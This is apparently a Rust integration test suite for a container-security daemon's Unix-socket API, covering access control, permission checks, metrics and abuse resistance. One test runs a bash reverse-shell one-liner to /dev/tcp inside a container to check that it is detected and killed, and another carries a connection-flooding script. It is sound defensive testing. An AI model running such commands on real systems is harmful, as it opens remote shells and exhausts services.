//! The daemon's API as callers meet it: the documentation's examples, who may do what, and callers who mean no good.

#![expect(clippy::unwrap_used, clippy::expect_used, reason = "what fails here is a test")]

use std::fs;
use std::io::{BufRead, BufReader, ErrorKind, Read, Write};
use std::os::unix::fs::{PermissionsExt, symlink};
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::process::{Command, Stdio};
use std::thread;

use coi_tests::incus::{self, Foreign};
use coi_tests::{Attacker, Cgroup, Coi, DEADLINE, SMALL, TINY, end, eventually};
use nix::unistd::Group;
use serde_json::{Value, json};

/// Users of this test's; the system need not know them.
const ANN: u32 = 62_001;
const BOB: u32 = 62_002;

/// The group that may use Incus.
fn admins() -> u32 {
    Group::from_name("incus-admin").unwrap().expect("Incus has no group").gid.as_raw()
}

/// A test with a daemon whose socket everybody can reach.
fn reachable() -> Coi {
    let coi = Coi::with_daemon(&[]);
    open_the_way(&coi.daemon().socket());
    coi
}

fn open_the_way(socket: &Path) {
    fs::set_permissions(socket.parent().unwrap(), fs::Permissions::from_mode(0o755)).unwrap();
}

/// Who calls.
#[derive(Clone, Copy)]
struct User {
    uid: u32,
    groups: &'static [u32],
}

const ROOT: User = User { uid: 0, groups: &[] };

impl User {
    const fn new(uid: u32) -> Self {
        Self { uid, groups: &[] }
    }

    /// A program as this user, with no other groups than these.
    fn command(self, program: &str) -> Command {
        let mut command = Command::new("setpriv");
        let id = self.uid.to_string();
        command.args(["--reuid", &id, "--regid", &id]);
        if self.groups.is_empty() {
            command.arg("--clear-groups");
        } else {
            let groups: Vec<_> = self.groups.iter().map(u32::to_string).collect();
            command.args(["--groups", &groups.join(",")]);
        }
        // Root's own programs are not for others.
        command.arg(program).env("PATH", "/usr/bin:/bin").current_dir("/").stdin(Stdio::null());
        command
    }

    /// Status and answer of a call.
    #[track_caller]
    fn call(self, coi: &Coi, method: &str, target: &str, body: Option<&Value>) -> (u16, Value) {
        let mut curl = self.command("curl");
        curl.args([
            "--silent",
            "--show-error",
            "--write-out",
            "\n%{http_code}",
            "-X",
            method,
            "--unix-socket",
        ]);
        curl.arg(coi.daemon().socket()).arg(format!("http://coi{target}"));
        if let Some(body) = body {
            curl.args(["-H", "content-type: application/json", "-d", &body.to_string()]);
        }
        let ended = end(&mut curl).expect(0).text();
        let (body, status) = ended.rsplit_once('\n').unwrap();
        (status.parse().unwrap(), serde_json::from_str(body).unwrap_or_else(|_| body.into()))
    }

    #[track_caller]
    fn get(self, coi: &Coi, target: &str) -> (u16, Value) {
        self.call(coi, "GET", target, None)
    }
}

/// A name as a part of an address.
fn segment(name: &str) -> String {
    name.replace('/', "%2F")
}

/// Has a cgroup watched for a user.
fn watch_cgroup(coi: &Coi, cgroup: &Cgroup, owner: u32) {
    let subject = json!({ "type": "cgroup", "path": cgroup.name() });
    let request = json!({ "subject": subject, "respond": true, "owner": owner });
    let (status, answer) = ROOT.call(coi, "POST", "/v1/watches", Some(&request));
    assert_eq!((status, &answer["owner"]), (200, &json!(owner)), "{answer}");
}

/// The names in a list of watches.
fn names(watches: &Value) -> Vec<&str> {
    watches.as_array().unwrap().iter().map(|watch| watch["name"].as_str().unwrap()).collect()
}

#[test]
fn the_examples_of_the_documentation_work() {
    let coi = Coi::new();
    let container = Foreign::make(TINY);
    container.start();
    let text = fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/api.md")).unwrap();
    let examples: Vec<_> =
        text.split("```sh\n").skip(1).map(|part| part.split("\n```").next().unwrap()).collect();
    assert!(examples.len() > 10, "{examples:?}");
    fs::create_dir(coi.home().join("app")).unwrap();
    let mut tree = String::new();
    for example in examples {
        let example = example.replace("/v1/trees/NAME", &format!("/v1/trees/{tree}"));
        let socket = coi.daemon().socket();
        let line =
            example.replace("/run/coi/coi.sock", socket.to_str().unwrap()).replace("NAME", &container.name);
        let line = line.replace("/home/ann", coi.home().to_str().unwrap());
        let curl = "curl --silent --show-error --fail-with-body";
        // What has no end is looked at for a while.
        let code = if example.contains("--max-time") { 28 } else { 0 };
        let ended = end(Command::new("sh").args(["-c", &line.replacen("curl", curl, 1)])).expect(code);
        let answer = ended.text();
        if example.ends_with("/v1/trees") {
            let made: Value = serde_json::from_str(&answer).unwrap();
            made["id"].as_str().unwrap().clone_into(&mut tree);
        }
        let is_json = answer.lines().all(|line| serde_json::from_str::<Value>(line).is_ok());
        assert!(!answer.is_empty() && (is_json || example.contains("metrics")), "{example}\n{answer}");
    }
    assert_eq!(incus::status(&container.name), "Stopped", "the example that kills has not");
}

#[test]
fn everybody_is_shown_what_is_theirs() {
    let coi = reachable();
    let (of_ann, of_bob) = (Cgroup::make("api-ann"), Cgroup::make("api-bob"));
    watch_cgroup(&coi, &of_ann, ANN);
    watch_cgroup(&coi, &of_bob, BOB);
    let groups: &'static [u32] = Box::leak(Box::new([27, admins()]));
    let admin = User { uid: 62_003, groups };
    let (ann, stranger) = (User::new(ANN), User::new(62_004));
    let (ann_name, bob_name) = (of_ann.name(), of_bob.name());
    let own = ann_name.trim_start_matches('/');
    let others = bob_name.trim_start_matches('/');

    for user in [ROOT, admin] {
        let (status, watches) = user.get(&coi, "/v1/watches");
        assert_eq!((status, names(&watches)), (200, vec![own, others]));
        assert_eq!(user.get(&coi, "/v1/metrics").0, 200);
    }
    let (status, watches) = ann.get(&coi, "/v1/watches");
    assert_eq!((status, names(&watches)), (200, vec![own]));
    assert_eq!(ann.get(&coi, "/v1/status").1["watches"], 1);
    assert_eq!(ann.get(&coi, "/v1/metrics").0, 403);

    // Of what is not theirs they learn no more than of what is not there.
    let without_name = |answer: &Value, name: &str| answer["message"].as_str().unwrap().replace(name, "X");
    for (method, rest) in [("GET", ""), ("DELETE", ""), ("POST", "/unfreeze"), ("POST", "/kill")] {
        let ask = |name: &str| ann.call(&coi, method, &format!("/v1/watches/{}{rest}", segment(name)), None);
        let ((status, theirs), (_, nobodys)) = (ask(others), ask("nothing"));
        assert_eq!(status, 404, "{theirs}");
        assert_eq!(without_name(&theirs, others), without_name(&nobodys, "nothing"));
    }
    for target in ["/v1/events?watch=", "/v1/rules?watch="] {
        assert_eq!(ann.get(&coi, &format!("{target}{}", segment(others))).0, 404, "{target}");
    }
    assert_eq!(ann.get(&coi, &format!("/v1/rules?watch={}", segment(own))).0, 200);

    // Who owns nothing is told so, whatever is asked for.
    for target in ["/v1", "/v1/status", "/v1/watches", "/v1/alerts", "/v1/rules", "/v1/events?watch=x"] {
        let (status, answer) = stranger.get(&coi, target);
        assert_eq!((status, &answer["code"]), (403, &json!("denied")), "{target}");
        let words = answer["message"].as_str().unwrap();
        assert!(words.contains("uid 62004") && words.contains("incus-admin"), "{words}");
    }
    for user in [ann, admin] {
        assert_eq!(user.call(&coi, "POST", "/v1/rules/reload", None).0, 403);
    }

    // Nobody becomes an owner by asking.
    let asked = |name: &str| json!({ "subject": { "type": "container", "name": name }, "respond": true });
    assert_eq!(ann.call(&coi, "POST", "/v1/watches", Some(&asked("anything"))).0, 403);
    assert_eq!(stranger.call(&coi, "POST", "/v1/watches", Some(&asked("anything"))).0, 403);
    let cgroup = json!({ "subject": { "type": "cgroup", "path": bob_name }, "respond": true });
    assert_eq!(ann.call(&coi, "POST", "/v1/watches", Some(&cgroup)).0, 403);

    // What is theirs they may act on.
    assert_eq!(ann.call(&coi, "DELETE", &format!("/v1/watches/{}", segment(own)), None).0, 200);
    assert_eq!(names(&ROOT.get(&coi, "/v1/watches").1), [others]);
    ROOT.call(&coi, "DELETE", &format!("/v1/watches/{}", segment(others)), None);
}

#[test]
fn a_workspace_is_opened_as_who_names_it() {
    let coi = reachable();
    let container = Foreign::make(TINY);
    let groups: &'static [u32] = Box::leak(Box::new([admins()]));
    let admin = User { uid: 62_003, groups };
    let place = tempfile::tempdir().unwrap();
    fs::set_permissions(place.path(), fs::Permissions::from_mode(0o755)).unwrap();
    let secret = place.path().join("secret");
    fs::create_dir_all(secret.join("below")).unwrap();
    fs::set_permissions(&secret, fs::Permissions::from_mode(0o700)).unwrap();
    let link = place.path().join("link");
    symlink(secret.join("below"), &link).unwrap();
    let ask = |user: User, workspace: &Path| {
        let subject = json!({ "type": "container", "name": container.name });
        let request = json!({ "subject": subject, "respond": false, "workspace": workspace });
        user.call(&coi, "POST", "/v1/watches", Some(&request))
    };
    for path in [&link, &secret, &secret.join("below")] {
        let (status, answer) = ask(admin, path);
        let words = answer["message"].as_str().unwrap();
        assert!(status == 400 && words.contains("Permission denied"), "{}: {status} {words}", path.display());
    }
    assert_eq!(names(&ROOT.get(&coi, "/v1/watches").1), Vec::<&str>::new());
    assert_eq!(ask(admin, place.path()).0, 200);
    ROOT.call(&coi, "DELETE", &format!("/v1/watches/{}", container.name), None);
    assert_eq!(ask(ROOT, &link).0, 200);
    ROOT.call(&coi, "DELETE", &format!("/v1/watches/{}", container.name), None);
}

#[test]
fn what_happened_is_counted_and_the_last_alerts_are_told() {
    let coi = Coi::with_daemon(&[]);
    let attacker = Attacker::on_bridge();
    let ended = coi.run(SMALL, &["bash", "-c", &attacker.fill("bash -i >& /dev/tcp/HOST/PORT 0>&1")]);
    coi.assert_killed(ended, "reverse-shell-socket");

    let (_, alerts) = ROOT.get(&coi, &format!("/v1/alerts?watch={}", coi.container()));
    let alerts = alerts.as_array().unwrap();
    assert!(alerts.iter().any(|alert| alert["rule"]["id"] == "reverse-shell-socket"), "{alerts:?}");
    assert_eq!(ROOT.get(&coi, "/v1/alerts?limit=1").1.as_array().unwrap().len(), 1);
    assert_eq!(ROOT.get(&coi, "/v1/alerts?watch=another").1, json!([]));

    let (_, text) = ROOT.get(&coi, "/v1/metrics");
    let text = text.as_str().unwrap();
    let value = |sample: &str| -> f64 {
        let line = text.lines().find_map(|line| line.strip_prefix(sample)?.strip_prefix(' '));
        line.unwrap_or_else(|| panic!("{sample} is missing:\n{text}")).parse().unwrap()
    };
    assert!(value("coi_alerts_total{severity=\"critical\",rule=\"reverse-shell-socket\"}") >= 1.0);
    assert!(value("coi_actions_total{action=\"kill\",result=\"success\"}") >= 1.0);
    assert!(value("coi_action_latency_seconds_count{action=\"kill\"}") >= 1.0);
    assert!(value("coi_events_total{kind=\"exec\",result=\"delivered\"}") >= 1.0);
    assert!(value("coi_ring_bytes{ring=\"priority\"}") < f64::from(4 << 20));
    assert_eq!(value("coi_watches{state=\"running\"}"), 0.0);
    // What the built-in rules want of names; nothing is watched any more.
    assert!(value("coi_map_entries{map=\"names\"}") <= value("coi_map_max_entries{map=\"names\"}"));
    assert_eq!(value("coi_map_entries{map=\"scopes\"}"), 0.0);
    assert!(value("process_resident_memory_bytes") > 1e6 && value("process_open_fds") > 10.0);
    // As Prometheus reads it: names, labels and numbers, each metric announced once and with its samples behind it.
    let mut announced = Vec::new();
    for line in text.lines() {
        if let Some(rest) = line.strip_prefix("# TYPE ") {
            let name = rest.split(' ').next().unwrap();
            assert!(!announced.contains(&name), "{name} is announced twice");
            announced.push(name);
        } else if !line.starts_with('#') {
            let (sample, value) = line.rsplit_once(' ').unwrap();
            value.parse::<f64>().unwrap();
            let name = sample.split('{').next().unwrap();
            assert!(name.starts_with(announced.last().unwrap()), "{line}");
        }
    }
}

/// A connection of this process, which is root's.
fn connect(coi: &Coi) -> UnixStream {
    let stream = UnixStream::connect(coi.daemon().socket()).unwrap();
    stream.set_read_timeout(Some(DEADLINE)).unwrap();
    stream
}

/// Kilobytes of memory of the daemon.
fn memory(coi: &Coi) -> u64 {
    let status = fs::read_to_string(format!("/proc/{}/status", coi.daemon().pid().unwrap())).unwrap();
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:")).unwrap();
    line.trim().strip_suffix(" kB").unwrap().parse().unwrap()
}

#[test]
fn who_floods_the_socket_is_alone_with_it() {
    let coi = reachable();
    let cgroup = Cgroup::make("api-flood");
    watch_cgroup(&coi, &cgroup, ANN);
    let ann = User::new(ANN);
    let before = memory(&coi);

    // Ann looks on at what is hers on more connections than one may have, opens some with half a request or junk, and keeps
    // them all.
    let script = "import socket, sys
look = b'GET /v1/events?form=alerts&watch=' + sys.argv[2].encode() + b' HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n'
half = b'POST /v1/watches HTTP/1.1\\r\\nhost: x\\r\\ncontent-length: 9999\\r\\n\\r\\n{'
all = []
for n in range(300):
    s = socket.socket(socket.AF_UNIX)
    s.connect(sys.argv[1])
    try: s.send(look if n < 100 else [b'GET /v1/st', half, bytes(range(256))][n % 3])
    except OSError: pass
    all.append(s)
print('open', flush=True)
sys.stdin.read()
";
    let mut flood = ann.command("python3");
    flood
        .args(["-c", script])
        .arg(coi.daemon().socket())
        .arg(cgroup.name())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped());
    let mut flood = flood.spawn().unwrap();
    let mut line = [0; 5];
    flood.stdout.take().unwrap().read_exact(&mut line).unwrap();

    // She is told that she has too many; everybody else is answered.
    eventually("she is told", || {
        let mut curl = ann.command("curl");
        curl.args(["--silent", "--unix-socket"]).arg(coi.daemon().socket()).arg("http://coi/v1/status");
        // To those whom she has left waiting it is told first.
        let answer = end(&mut curl).text();
        assert!(!answer.contains("\"pid\""), "{answer}");
        answer.contains("\"code\":\"busy\"")
    });
    let groups: &'static [u32] = Box::leak(Box::new([admins()]));
    assert_eq!(User { uid: 62_003, groups }.get(&coi, "/v1/watches").0, 200);
    assert_eq!(ROOT.get(&coi, "/v1/watches").0, 200);

    // Root's own junk, of every kind, ends each connection and nothing else.
    thread::scope(|scope| {
        for n in 0..8u8 {
            let coi = &coi;
            scope.spawn(move || {
                for round in 0..100usize {
                    let mut stream = connect(coi);
                    let junk: Vec<u8> = match (usize::from(n) + round) % 4 {
                        0 => (0..20_000usize).map(|at| (at * 31 + round) as u8).collect(),
                        1 => b"GET / HTTP/1.1\r\n".iter().copied().chain(b"x: y\r\n".repeat(5000)).collect(),
                        2 => b"POST /v1/watches HTTP/1.1\r\nhost: x\r\ncontent-length: 3\r\n\r\n{{{".to_vec(),
                        _ => b"GET /v1/events?watch=%00%ff HTTP/1.0\r\n\r\n".to_vec(),
                    };
                    // It may hang up before it has all.
                    let _ = stream.write_all(&junk);
                    let _ = stream.shutdown(std::net::Shutdown::Write);
                    let mut answer = Vec::new();
                    match stream.read_to_end(&mut answer) {
                        Err(error) if error.kind() == ErrorKind::WouldBlock => panic!("it does not let go"),
                        _ => assert!(
                            !answer.starts_with(b"HTTP/1.1 2"),
                            "{}",
                            String::from_utf8_lossy(&answer)
                        ),
                    }
                }
            });
        }
    });
    assert_eq!(ROOT.get(&coi, "/v1/watches").0, 200);
    assert!(memory(&coi) < before + (64 << 10), "{before} kB, now {} kB", memory(&coi));

    // When she has gone she is answered again.
    drop(flood.stdin.take());
    flood.wait().unwrap();
    eventually("the places are free", || ann.get(&coi, "/v1/status").0 == 200);
    ROOT.call(
        &coi,
        "DELETE",
        &format!("/v1/watches/{}", segment(cgroup.name().trim_start_matches('/'))),
        None,
    );
}

#[test]
fn who_does_not_read_the_stream_costs_the_daemon_little() {
    let coi = Coi::with_daemon(&[]);
    let cgroup = Cgroup::make("api-slow");
    watch_cgroup(&coi, &cgroup, ANN);
    let name = segment(cgroup.name().trim_start_matches('/'));
    let before = memory(&coi);
    let slow: Vec<_> = (0..20)
        .map(|_| {
            let mut stream = connect(&coi);
            write!(stream, "GET /v1/events?watch={name} HTTP/1.0\r\n\r\n").unwrap();
            // Its head, and then nothing more.
            stream.read_exact(&mut [0; 12]).unwrap();
            stream
        })
        .collect();
    let script = "i=0; while [ $i -lt 20000 ]; do : </etc/passwd; i=$((i+1)); done";
    end(&mut cgroup.command(script)).expect(0);
    assert_eq!(ROOT.get(&coi, &format!("/v1/watches/{name}")).0, 200);
    assert!(memory(&coi) < before + (128 << 10), "{before} kB, now {} kB", memory(&coi));
    // Whoever reads at last is told what is missing, where it is missing.
    let stream = slow.into_iter().next().unwrap();
    let told = BufReader::new(stream).lines().map_while(Result::ok);
    assert!({ told }.any(|line| line.contains("this viewer was too slow and has missed")));
    ROOT.call(&coi, "DELETE", &format!("/v1/watches/{name}"), None);
}
